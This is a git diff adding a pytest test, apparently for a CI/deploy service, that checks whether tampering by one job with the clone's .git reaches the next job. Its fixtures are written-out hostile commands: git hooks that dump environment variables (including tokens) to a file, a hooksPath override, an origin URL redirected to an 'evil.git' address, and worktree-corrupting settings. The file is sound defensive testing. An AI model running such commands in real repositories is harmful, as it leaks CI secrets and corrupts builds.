@@ -329,6 +329,62 @@ async def test_a_stored_branch_git_would_refuse_fails_the_job_with_the_reason(
     assert "crashed" not in caplog.text
 
 
+GIT_TAMPERING = {
+    # A hook would run in the next job's git steps, the token in its env.
+    "hook": "mkdir -p .git/hooks"
+    " && printf '#!/bin/sh\\nenv >> {leak}\\n' > .git/hooks/post-checkout"
+    " && chmod +x .git/hooks/post-checkout"
+    " && cp .git/hooks/post-checkout .git/hooks/reference-transaction",
+    "hooks path": "mkdir -p {tmp}/hooks"
+    " && printf '#!/bin/sh\\nenv >> {leak}\\n' > {tmp}/hooks/post-checkout"
+    " && chmod +x {tmp}/hooks/post-checkout"
+    " && git config core.hooksPath {tmp}/hooks",
+    # The token would go to this URL; the fetch would fail for good.
+    "remote URL": "git remote set-url origin http://127.0.0.1:9/evil.git",
+    # The next job would not see its commit's files.
+    "skip-worktree": "git update-index --skip-worktree tracked.txt"
+    " && echo evil > tracked.txt",
+    "sparse checkout": "git config core.sparseCheckout true"
+    " && printf '/Makefile\\n' > .git/info/sparse-checkout",
+    "worktree": "git config core.worktree {tmp} && echo evil > tracked.txt",
+    "attributes": "printf '* text eol=crlf\\n' > .git/info/attributes"
+    " && rm tracked.txt",
+}
+
+
+@pytest.mark.parametrize("case", list(GIT_TAMPERING))
+async def test_what_a_job_does_to_dot_git_never_reaches_the_next_job(
+    client: Client, remote: GitRemote, tmp_path: Path, case: str
+) -> None:
+    """A deploy's make changes the clone's .git (as build tools do: husky
+    sets core.hooksPath); the next job's git steps run as on a fresh clone,
+    nothing of theirs runs, and make sees exactly the pushed commit."""
+    leak = tmp_path / "leak"
+    command = GIT_TAMPERING[case].format(leak=leak, tmp=tmp_path)
+    remote.commit(
+        {
+            "tracked.txt": "line one\nline two\n",
+            "Makefile": f"deploy:\n\t{command}\n"
+            "test:\n\t@cat tracked.txt\n\t@od -c tracked.txt | head -2\n",
+        }
+    )
+    webhook = (await register(client))["webhook"]
+    number = int((await deploy(client))["number"])
+    assert (await wait_for_job(client, number))["status"] == "success"
+    sha = remote.commit({"other.txt": "x"})
+    status, body = await send_push(client, webhook, sha)
+    assert status == 202
+    job = await wait_for_job(client, int(body["number"]))
+    log = await (
+        await client.get(f"{JOBS}/{job['number']}/log", headers=auth_headers())
+    ).text()
+    assert (job["status"], job["sha"]) == ("success", sha), log
+    assert "cloning again" not in log
+    assert "line one\nline two\n" in log
+    assert "\\r" not in log
+    assert not leak.exists()
+
+
 async def test_log_offset_returns_exactly_the_stored_bytes(
     client: Client, remote: GitRemote
 ) -> None:
